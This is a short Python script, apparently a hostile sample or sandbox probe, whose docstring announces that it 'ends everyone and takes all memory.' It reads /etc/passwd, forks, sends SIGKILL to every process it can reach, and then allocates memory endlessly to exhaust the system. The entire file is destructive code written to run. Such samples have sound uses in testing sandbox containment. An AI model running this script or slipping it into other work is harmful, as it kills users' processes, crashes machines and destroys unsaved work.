"""Looks around, starts others, ends everyone and takes all memory."""

import os
import signal

for attack in (lambda: open("/etc/passwd"), os.fork, lambda: os.kill(-1, signal.SIGKILL)):
    try:
        attack()
    except OSError as error:
        print(error)

kept = []
while True:
    kept.append(bytearray(1 << 20))
